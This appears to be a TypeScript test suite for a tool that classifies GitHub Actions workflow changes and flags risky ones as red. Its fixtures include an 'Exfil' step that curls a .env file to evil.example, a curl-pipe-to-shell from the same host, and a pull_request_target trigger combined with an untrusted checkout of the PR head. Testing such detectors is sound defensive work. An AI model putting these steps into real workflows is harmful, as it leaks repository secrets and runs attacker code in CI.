import { before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { initShell } from '../../../../src/engine/shell/parser.js';
import { classifyWorkflowChange } from '../../../../src/engine/rules/workflow/index.js';
import { level, policy, show, stepNamed, WF } from './helpers.js';

before(async () => initShell());

const base = `on:
  push:
  pull_request:
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: Install
        run: npm ci
      - name: Test
        run: npm test
`;

function change(head: string | null, b: string | null = base) {
  return classifyWorkflowChange(WF, b, head, policy);
}

describe('classifyWorkflowChange: base vs head', () => {
  test('identical files report no steps', () => {
    const results = change(base);
    assert.equal(results.filter((r) => r.step !== null).length, 0, show(results));
  });

  test('an added step is reported, unchanged ones are not', () => {
    const head = base + '      - name: Exfil\n        run: curl -d @.env https://evil.example\n';
    const results = change(head);
    const steps = results.filter((r) => r.step !== null);
    assert.deepEqual(steps.map((s) => s.step), ['Exfil'], show(results));
    assert.equal(steps[0]?.zone, 'red');
    assert.equal(steps[0]?.reasons[0]?.line !== undefined, true);
  });

  test('a changed step is reported', () => {
    const head = base.replace('run: npm test', 'run: npm test && curl https://evil.example/x | sh');
    const results = change(head);
    assert.deepEqual(results.filter((r) => r.step !== null).map((s) => s.step), ['Test'], show(results));
    assert.equal(stepNamed(results, 'Test')?.zone, 'red');
  });

  test('a moved but identical step is not changed', () => {
    const head = base.replace('      - name: Install\n        run: npm ci\n      - name: Test\n        run: npm test\n', '      - name: Test\n        run: npm test\n      - name: Install\n        run: npm ci\n');
    assert.notEqual(head, base);
    const results = change(head);
    assert.equal(results.filter((r) => r.step !== null).length, 0, show(results));
  });

  test('re-indenting (same content, other YAML style) is not a change', () => {
    const head = base.replace('      - name: Test\n        run: npm test\n', '      - {name: Test, run: npm test}\n');
    const results = change(head);
    assert.equal(results.filter((r) => r.step !== null).length, 0, show(results));
  });

  test('a duplicated step counts once as added', () => {
    const head = base + '      - name: Test\n        run: npm test\n';
    const results = change(head);
    assert.deepEqual(results.filter((r) => r.step !== null).map((s) => s.step), ['Test']);
  });

  test('a step moved to another job is reported (its context changed)', () => {
    const head = base.replace('      - name: Test\n        run: npm test\n', '') + '  other:\n    runs-on: ubuntu-latest\n    steps:\n      - name: Test\n        run: npm test\n';
    const results = change(head);
    const moved = results.filter((r) => r.step === 'Test');
    assert.equal(moved.length, 1, show(results));
    assert.equal(moved[0]?.job, 'other');
  });

  test('an unchanged step whose judgement got worse (trigger changed) is reported', () => {
    const b = base.replace('run: npm test', 'run: git checkout ${{ github.event.pull_request.head.sha }}').replace('  pull_request:\n', '');
    const head = b.replace('  push:\n', '  push:\n  pull_request_target:\n');
    const results = change(head, b);
    const top = level(results, null);
    assert.ok(top?.reasons.some((r) => r.rule === 'wf:dangerous-trigger'), show(results));
    assert.ok(stepNamed(results, 'Test')?.reasons.some((r) => r.rule === 'wf:untrusted-checkout'), show(results));
  });

  test('workflow-level findings of head are reported, marked when already in base', () => {
    const b = base.replace('permissions:\n  contents: read\n', 'permissions: write-all\n');
    const head = b + '      - run: echo new\n';
    const results = change(head, b);
    const top = level(results, null);
    const r = top?.reasons.find((x) => x.rule === 'wf:excessive-permissions');
    assert.ok(r, show(results));
    assert.match(r.message, /already present in base/);
  });

  test('a new workflow-level finding is not marked as known', () => {
    const head = base.replace('  pull_request:\n', '  pull_request_target:\n');
    const results = change(head);
    const r = level(results, null)?.reasons.find((x) => x.rule === 'wf:dangerous-trigger');
    assert.ok(r, show(results));
    assert.doesNotMatch(r.message, /already present/);
  });

  test('job-level findings of head are reported', () => {
    const head = base.replace('    runs-on: ubuntu-latest\n', '    runs-on: self-hosted\n');
    const results = change(head);
    assert.equal(level(results, 'test')?.zone, 'red', show(results));
  });

  test('head deleted -> nothing', () => {
    assert.deepEqual(change(null), []);
  });

  test('base null (new workflow) -> every step', () => {
    const results = change(base, null);
    assert.equal(results.filter((r) => r.step !== null).length, 3);
  });

  test('unparsable head is red', () => {
    const results = change('on: [\n');
    assert.equal(level(results, null)?.zone, 'red');
    assert.ok(level(results, null)?.reasons.some((r) => r.rule === 'wf:unparsable'));
  });

  test('unparsable base: every head step counts as new', () => {
    const results = change(base, 'on: [\n');
    assert.equal(results.filter((r) => r.step !== null).length, 3);
  });

  test('reusable workflow call changed is reported', () => {
    const b = `on: push\npermissions: {}\njobs:\n  call:\n    uses: org/r/.github/workflows/a.yml@v1\n`;
    const head = b.replace('@v1', '@v2');
    const results = change(head, b);
    assert.ok(stepNamed(results, 'org/r/.github/workflows/a.yml@v2'), show(results));
    assert.equal(change(b, b).filter((r) => r.step !== null).length, 0);
  });

  test('composite action change', () => {
    const b = `runs:\n  using: composite\n  steps:\n    - run: npm ci\n      shell: bash\n`;
    const head = b + '    - run: npm publish\n      shell: bash\n';
    const results = classifyWorkflowChange('.github/actions/x/action.yml', b, head, policy);
    assert.deepEqual(results.map((r) => r.step), ['npm publish'], show(results));
    assert.equal(results[0]?.zone, 'red');
  });
});
